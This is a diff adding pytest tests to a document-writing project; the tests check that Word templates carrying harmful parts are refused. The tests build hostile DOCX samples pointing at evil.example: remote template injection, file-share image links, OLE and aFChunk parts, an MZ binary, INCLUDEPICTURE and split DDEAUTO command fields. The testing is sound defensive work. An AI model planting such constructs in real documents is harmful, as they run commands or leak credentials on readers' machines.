@@ -1,6 +1,8 @@
 """Minutes as Word and PDF, and templates that an office brings or that mean harm."""
 
 import io
+import zipfile
+from dataclasses import replace
 
 import pypdfium2
 import pytest
@@ -8,6 +10,7 @@ from docx import Document
 
 from kokreasi.writing import child
 from kokreasi.writing.errors import Code, WritingError
+from kokreasi.writing.harm import refuse_harm
 from kokreasi.writing.tests.values import NASTY, values
 
 SAID = (NASTY, "Butir bawah", "Butir terbawah", "Dua sektor dahulu", "Menyusun daftar")
@@ -128,3 +131,103 @@ def test_a_template_sees_no_secret_of_the_server(monkeypatch) -> None:
 
     with pytest.raises(WritingError):
         child.word(values(), template=template("{{ environ }}"))
+
+
+# What a template would have the reader's machine do
+
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELATED = "word/_rels/document.xml.rels"
+
+
+def rebuilt(parts) -> bytes:
+    """Give a template whose parts are changed or added, by name."""
+    written = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(template("{{ title }}"))) as sound:
+        whole = {name: sound.read(name) for name in sound.namelist()}
+    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in (whole | parts(whole)).items():
+            archive.writestr(name, content)
+    return written.getvalue()
+
+
+def related(kind: str, target: str, mode: str = "External"):
+    relation = (
+        f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    )
+    end = b"</Relationships>"
+    return lambda whole: {RELATED: whole[RELATED].replace(end, relation.encode() + end)}
+
+
+def beginning(xml: str):
+    name, start = "word/document.xml", b"<w:body>"
+    return lambda whole: {name: whole[name].replace(start, start + xml.encode())}
+
+
+def field(*pieces: str) -> str:
+    """Write a field as Word does, its code in as many pieces as wanted."""
+    codes = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
+    return f"<w:p>{marks[0]}{codes}{marks[1]}</w:p>"
+
+
+HARM = {
+    "picture elsewhere": related("image", "http://evil.example/x.png"),
+    "template elsewhere": related("attachedTemplate", "http://evil.example/t.dotm"),
+    "shared folder": related("image", "file://evil.example/share/x.png"),
+    "link to a shared folder": related("hyperlink", "file://evil.example/share"),
+    "remote without saying so": related("image", "http://evil.example/x.png", "Internal"),
+    "program inside": related("oleObject", "embeddings/ole.docx", "Internal"),
+    "page inside": related("aFChunk", "page.xml", "Internal"),
+    "unknown part": lambda _whole: {"word/embeddings/a.bin": b"MZ"},
+    "part without an ending": lambda _whole: {"word/footer": b"<w:ftr/>"},
+    "simple field": beginning(
+        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/></w:p>'
+    ),
+    "field in pieces": beginning(field("DD", "EAUTO cmd")),
+    "field that another one builds": beginning(field("QUOTE 68 68 69")),
+    "drawing": beginning('<v:imagedata xmlns:v="urn:v" src="http://evil.example/x.png"/>'),
+}
+
+
+@pytest.mark.parametrize("harm", HARM)
+def test_what_harms_its_reader_is_seen(harm) -> None:
+    with pytest.raises(WritingError) as refusal:
+        refuse_harm(rebuilt(HARM[harm]))
+
+    assert refusal.value.code == Code.FORBIDDEN
+
+
+@pytest.mark.parametrize("harm", ["picture elsewhere", "template elsewhere", "field in pieces"])
+def test_minutes_never_leave_with_what_harms_their_reader(harm) -> None:
+    with pytest.raises(WritingError) as refusal:
+        child.word(values(), template=rebuilt(HARM[harm]))
+
+    assert refusal.value.code == Code.FORBIDDEN
+
+
+def test_what_the_program_of_a_template_makes_is_looked_at_too() -> None:
+    made = template("""{{ "<w:fldSimple w:instr='DDE cmd'/>"|safe }}""")
+
+    with pytest.raises(WritingError) as refusal:
+        child.word(values(), template=made)
+
+    assert refusal.value.code == Code.FORBIDDEN
+
+
+def test_links_and_page_numbers_are_no_harm() -> None:
+    linked = rebuilt(related("hyperlink", "https://kantor.example.org/"))
+    numbered = rebuilt(beginning(field(" PAGE ") + field('HYPERLINK "https://kantor.example.org"')))
+
+    assert child.word(values(), template=linked)
+    assert child.word(values(), template=numbered)
+
+
+def test_a_template_cannot_write_without_end(monkeypatch) -> None:
+    limits = replace(child.LIMITS, output_bytes=10_000)
+    monkeypatch.setattr(child, "LIMITS", limits)
+
+    with pytest.raises(WritingError) as refusal:
+        child.word(values())
+
+    assert refusal.value.code == Code.TOO_LARGE
